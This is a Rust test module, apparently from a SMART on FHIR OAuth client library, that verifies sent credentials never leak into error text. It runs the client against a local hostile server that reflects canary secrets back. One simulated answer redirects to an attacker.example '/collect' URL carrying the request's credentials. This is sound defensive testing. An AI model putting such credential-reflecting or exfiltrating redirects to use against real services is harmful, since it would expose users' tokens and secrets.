//! No sent secret in any error: every request that carries a credential is sent with canary
//! values (client secret, refresh token, authorization code, `code_verifier`, the
//! `private_key_jwt` assertion, the Basic credential, the token given to introspection or
//! revocation and the bearer token of the introspection caller) to a [hostile](crate::hostile)
//! endpoint that reflects them — in an OAuth error (raw, percent-decoded, Basic-decoded), in a
//! redirect's `Location`, in a 200 whose `token_type` is the request, in a 5xx page — or
//! that closes the connection or never answers. No canary may appear, in any
//! [form](crate::canary::Canaries::add), in the error's `Display`, `Debug` or `source()`
//! chain.

use std::sync::Arc;
use std::time::Duration;

use smart_core::backend::BackendServicesConfig;
use smart_core::client_auth::{BasicEncoding, ClientAuth};
use smart_core::discovery::SmartConfiguration;
use smart_core::entropy::SystemEntropy;
use smart_core::introspection::{IntrospectionAuth, TokenTypeHint};
use smart_core::launch::{AppConfig, PendingAuthorization};
use smart_core::retry::RetryPolicy;
use smart_core::secret::{AccessToken, ClientSecret, CsrfToken, PkceCodeVerifier, RefreshToken};
use smart_core::session::Session;
use smart_core::token::parse_token_response;
use smart_core::{ClientId, Error, FhirBaseUrl, HttpResponse};
use url::Url;

use super::{es384_key, now};
use crate::canary::{Canaries, find_in_error};
use crate::driver::{ClientOptions, Driver, HttpOptions};
use crate::hostile::{Behaviour, HostileServer, Request, Response};

/// The client secret (reserved characters, a space, a quote, a backslash, non-ASCII).
pub const CLIENT_SECRET: &str = "cs-CANARY/secret+value= 1&2~*'\"\\é";
/// The refresh token.
pub const REFRESH_TOKEN: &str = "rt-CANARY/refresh+token=value 42&x~";
/// The authorization code.
pub const CODE: &str = "code-CANARY/auth+code=value 7&y";
/// The PKCE `code_verifier` (RFC 7636: 43–128 unreserved characters).
pub const CODE_VERIFIER: &str = "cv-CANARY-verifier.abcdefghijklmnopqrstuvwxyz_0123456789~";
/// The access token given to introspection and revocation.
pub const ACCESS_TOKEN: &str = "at-CANARY/access+token=value 9&z";
/// The bearer token of the introspection caller.
pub const BEARER_TOKEN: &str = "bt-CANARY/bearer+token=value-11";
/// The `client_id` of every canary client.
pub const CLIENT_ID: &str = "canary-client";

/// The canaries every path sends (each path adds what it captured from the wire: the signed
/// assertions, the Basic header).
pub fn fixed_canaries() -> Canaries {
    let mut c = Canaries::new();
    for (label, value) in [
        ("client secret", CLIENT_SECRET),
        ("refresh token", REFRESH_TOKEN),
        ("authorization code", CODE),
        ("code_verifier", CODE_VERIFIER),
        ("access token", ACCESS_TOKEN),
        ("bearer token", BEARER_TOKEN),
    ] {
        c.add(label, value);
    }
    c
}

/// Everything secret a request carried as the server read it: every form field that holds a
/// credential, and the `Authorization` header's credential.
pub fn add_sent(canaries: &mut Canaries, request: &Request) {
    for (name, value) in request.form() {
        if matches!(
            name.as_str(),
            "client_assertion"
                | "client_secret"
                | "code"
                | "code_verifier"
                | "refresh_token"
                | "token"
        ) {
            canaries.add(&format!("sent {name}"), &value);
        }
    }
    if let Some(auth) = request.header("authorization") {
        canaries.add("sent Authorization header", auth);
        if let Some((scheme, credential)) = auth.split_once(' ') {
            canaries.add(&format!("sent {scheme} credential"), credential.trim());
            if let Some(basic) = request.basic_credentials()
                && let Some((user, password)) = basic.split_once(':')
            {
                canaries.add_basic("sent Basic credential", user, password);
            }
        }
    }
}

/// What a reflecting server puts in its answers: the request body raw and decoded, the
/// `Authorization` header and the decoded Basic credential.
pub fn reflection(req: &Request) -> String {
    format!(
        "body {} decoded {} authorization {} basic {}",
        req.body_text(),
        req.decoded_form_text(),
        req.header("authorization").unwrap_or(""),
        req.basic_credentials().unwrap_or_default()
    )
}

/// `text` with every non-ASCII character percent-encoded (a header value stays ASCII).
fn ascii(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c.is_ascii() && !c.is_ascii_control() {
            out.push(c);
        } else {
            let mut buf = [0u8; 4];
            for b in c.encode_utf8(&mut buf).bytes() {
                out.push_str(&format!("%{b:02X}"));
            }
        }
    }
    out
}

/// Every hostile answer the canary scenarios use, by name.
pub fn hostile_answers() -> Vec<(&'static str, Behaviour)> {
    let redirect = |status: u16| {
        Behaviour::from_fn(move |req| {
            let location = format!(
                "https://attacker.example/collect?{}",
                ascii(&reflection(req))
            );
            Response::redirect(status, &location)
        })
    };
    vec![
        ("echo 400", Behaviour::echo()),
        ("echo 401", Behaviour::echo_with_status(401)),
        ("echo 500", Behaviour::echo_with_status(500)),
        ("echo 200", Behaviour::echo_with_status(200)),
        ("302 to a Location carrying the request", redirect(302)),
        ("307 to a Location carrying the request", redirect(307)),
        (
            "200 whose token_type is the request",
            Behaviour::from_fn(|req| {
                Response::json(
                    200,
                    serde_json::json!({
                        "access_token": "issued",
                        "token_type": reflection(req),
                        "expires_in": 60,
                        "active": "maybe",
                    }),
                )
            }),
        ),
        (
            "503 HTML page reflecting the request",
            Behaviour::from_fn(|req| {
                Response::new(503)
                    .header("Content-Type", "text/html")
                    .body(format!("<html><body>{}</body></html>", reflection(req)))
            }),
        ),
        ("connection closed", Behaviour::close()),
        ("no answer (client timeout)", Behaviour::hang()),
    ]
}

/// The client authentications used (symmetric with both Basic encodings, asymmetric).
pub fn client_auths() -> Vec<(&'static str, ClientAuth)> {
    vec![
        (
            "symmetric, Basic raw",
            ClientAuth::ConfidentialSymmetric {
                client_id: ClientId::new(CLIENT_ID),
                client_secret: ClientSecret::new(CLIENT_SECRET),
                encoding: BasicEncoding::Raw,
            },
        ),
        (
            "symmetric, Basic form-encoded",
            ClientAuth::ConfidentialSymmetric {
                client_id: ClientId::new(CLIENT_ID),
                client_secret: ClientSecret::new(CLIENT_SECRET),
                encoding: BasicEncoding::FormUrlEncoded,
            },
        ),
        (
            "asymmetric (private_key_jwt)",
            ClientAuth::asymmetric(CLIENT_ID, es384_key()),
        ),
    ]
}

/// Retries within a flight after 10 ms and 20 ms (the canary scenarios do not wait).
fn quick_retries() -> RetryPolicy {
    let mut p = RetryPolicy::default();
    p.retry_base_millis = 10;
    p
}

/// The canary forms found per path, and where.
#[derive(Default)]
struct Tally {
    found: usize,
    errors: usize,
    /// Errors whose text shows `[redacted]`: the reflection reached the error, scrubbed.
    scrubbed: usize,
    lines: Vec<String>,
}

impl Tally {
    /// Look for the fixed canaries and whatever `server` read in `result`'s error.
    fn check<T>(&mut self, path: &str, server: &HostileServer, result: Result<T, Error>) {
        let Err(error) = result else {
            self.lines.push(format!("{path}: no error"));
            return;
        };
        self.errors += 1;
        let mut canaries = fixed_canaries();
        for r in server.requests() {
            add_sent(&mut canaries, &r);
        }
        let hits = find_in_error(&canaries, &error);
        if error.to_string().contains(smart_core::redact::REDACTED) {
            self.scrubbed += 1;
        }
        self.found += hits.len();
        for h in hits {
            self.lines
                .push(format!("{path}: {} ({}) in {error}", h.canary, h.form));
        }
    }

    fn finish<D: Driver>(self, what: &str) {
        eprintln!(
            "{} {what}: {} errors checked ({} with scrubbed server text), canaries found: {}",
            D::NAME,
            self.errors,
            self.scrubbed,
            self.found
        );
        for l in &self.lines {
            eprintln!("  {l}");
        }
        assert!(self.errors > 0, "{what}: no error path was driven");
        assert!(
            self.scrubbed > 0,
            "{what}: no reflection reached an error (is the test still reflecting?)"
        );
        assert_eq!(
            self.found,
            0,
            "{} {what}: sent secrets in errors:\n{}",
            D::NAME,
            self.lines.join("\n")
        );
    }
}

fn http<D: Driver>() -> D::Http {
    D::http(HttpOptions::default().timeout(Duration::from_millis(300))).unwrap()
}

fn token_url(server: &HostileServer) -> Url {
    Url::parse(&server.url_for("/token")).unwrap()
}

/// Backend Services (`private_key_jwt` assertions) against every hostile answer.
pub fn canary_backend_services_token<D: Driver>() {
    let mut tally = Tally::default();
    for (answer, behaviour) in hostile_answers() {
        let server = HostileServer::start();
        server.route("POST", "/token", behaviour);
        let config =
            BackendServicesConfig::new(ClientId::new(CLIENT_ID), "system/Patient.rs", es384_key())
                .with_smart_configuration(SmartConfiguration::new(token_url(&server)))
                .with_retry_policy(quick_retries());
        let auth = D::backend_with_client(config, http::<D>(), Arc::new(SystemEntropy)).unwrap();
        tally.check(&format!("token, {answer}"), &server, D::token(&auth));
        // The same error again from the backoff.
        tally.check(
            &format!("token in the backoff, {answer}"),
            &server,
            D::authorization(&auth),
        );
    }
    tally.finish::<D>("Backend Services token");
}

fn app(client_auth: ClientAuth) -> AppConfig {
    AppConfig::new(client_auth, "http://127.0.0.1/callback", "openid fhirUser").unwrap()
}

/// The code exchange (code, `code_verifier`, client authentication) against every hostile
/// answer, for each client authentication.
pub fn canary_code_exchange<D: Driver>() {
    let mut tally = Tally::default();
    for (auth_name, client_auth) in client_auths() {
        for (answer, behaviour) in hostile_answers() {
            let server = HostileServer::start();
            server.route("POST", "/token", behaviour);
            let app = app(client_auth.clone());
            let pending = PendingAuthorization {
                state: CsrfToken::new("canary-state-0123456789"),
                code_verifier: PkceCodeVerifier::new(CODE_VERIFIER),
                redirect_uri: "http://127.0.0.1/callback".into(),
                fhir_base: FhirBaseUrl::new(server.url_for("/fhir")).unwrap(),
                issuer: None,
                token_endpoint: token_url(&server).into(),
                client_id: ClientId::new(CLIENT_ID),
                scope: "openid fhirUser".into(),
                launch: None,
                created_at: now(),
                require_iss: false,
            };
            let callback = format!(
                "http://127.0.0.1/callback?code={}&state=canary-state-0123456789",
                smart_core::http::form_encode(CODE)
            );
            let result = D::complete_launch(&http::<D>(), &app, pending, &callback);
            tally.check(
                &format!("code exchange ({auth_name}), {answer}"),
                &server,
                result,
            );
        }
    }
    tally.finish::<D>("code exchange");
}

/// A session whose refresh token is [`REFRESH_TOKEN`], at `server`'s token endpoint.
fn session(app: &AppConfig, server: &HostileServer) -> Session {
    let json = serde_json::json!({
        "access_token": "session-access-token",
        "token_type": "Bearer",
        "expires_in": 3600,
        "refresh_token": REFRESH_TOKEN,
        "scope": "openid fhirUser",
    });
    let token = parse_token_response(
        &HttpResponse::new(200, json.to_string()),
        &token_url(server),
        now(),
    )
    .unwrap();
    Session::new(
        app,
        FhirBaseUrl::new(server.url_for("/fhir")).unwrap(),
        token_url(server),
        token,
        now(),
    )
    .with_retry_policy(quick_retries())
}

/// Refresh through `SmartClient::refresh` and the free `refresh_token` function, against
/// every hostile answer, for each client authentication.
pub fn canary_refresh<D: Driver>() {
    let mut tally = Tally::default();
    for (auth_name, client_auth) in client_auths() {
        for (answer, behaviour) in hostile_answers() {
            let app = app(client_auth.clone());

            let server = HostileServer::start();
            server.route("POST", "/token", behaviour.clone());
            let client = D::client(
                session(&app, &server),
                ClientOptions {
                    http: Some(http::<D>()),
                    store: None,
                    store_key: None,
                    on_rotate: None,
                    retry: None,
                },
            )
            .unwrap();
            tally.check(
                &format!("SmartClient::refresh ({auth_name}), {answer}"),
                &server,
                D::client_refresh(&client, None),
            );

            let server = HostileServer::start();
            server.route("POST", "/token", behaviour);
            let result = D::refresh_token(
                &http::<D>(),
                &app,
                &token_url(&server),
                &RefreshToken::new(REFRESH_TOKEN),
                Some("openid"),
            );
            tally.check(
                &format!("refresh_token ({auth_name}), {answer}"),
                &server,
                result,
            );
        }
    }
    tally.finish::<D>("refresh");
}

/// Introspection (each client authentication, and a bearer token) and revocation (each
/// client authentication) of [`ACCESS_TOKEN`], against every hostile answer.
pub fn canary_introspection_and_revocation<D: Driver>() {
    let mut tally = Tally::default();
    let mut introspection_auths: Vec<(&str, IntrospectionAuth)> = client_auths()
        .into_iter()
        .map(|(n, a)| (n, IntrospectionAuth::Client(a)))
        .collect();
    introspection_auths.push((
        "bearer",
        IntrospectionAuth::Bearer(AccessToken::new(BEARER_TOKEN)),
    ));
    for (answer, behaviour) in hostile_answers() {
        for (auth_name, auth) in &introspection_auths {
            let server = HostileServer::start();
            server.route("POST", "/introspect", behaviour.clone());
            let endpoint = Url::parse(&server.url_for("/introspect")).unwrap();
            let result = D::introspect(
                &http::<D>(),
                &endpoint,
                &AccessToken::new(ACCESS_TOKEN),
                Some(TokenTypeHint::AccessToken),
                auth.clone(),
            );
            tally.check(
                &format!("introspection ({auth_name}), {answer}"),
                &server,
                result,
            );
        }
        for (auth_name, client_auth) in client_auths() {
            let server = HostileServer::start();
            server.route("POST", "/revoke", behaviour.clone());
            let endpoint = Url::parse(&server.url_for("/revoke")).unwrap();
            let result = D::revoke(
                &http::<D>(),
                &endpoint,
                &AccessToken::new(ACCESS_TOKEN),
                Some(TokenTypeHint::RefreshToken),
                &client_auth,
            );
            tally.check(
                &format!("revocation ({auth_name}), {answer}"),
                &server,
                result,
            );
        }
    }
    tally.finish::<D>("introspection and revocation");
}
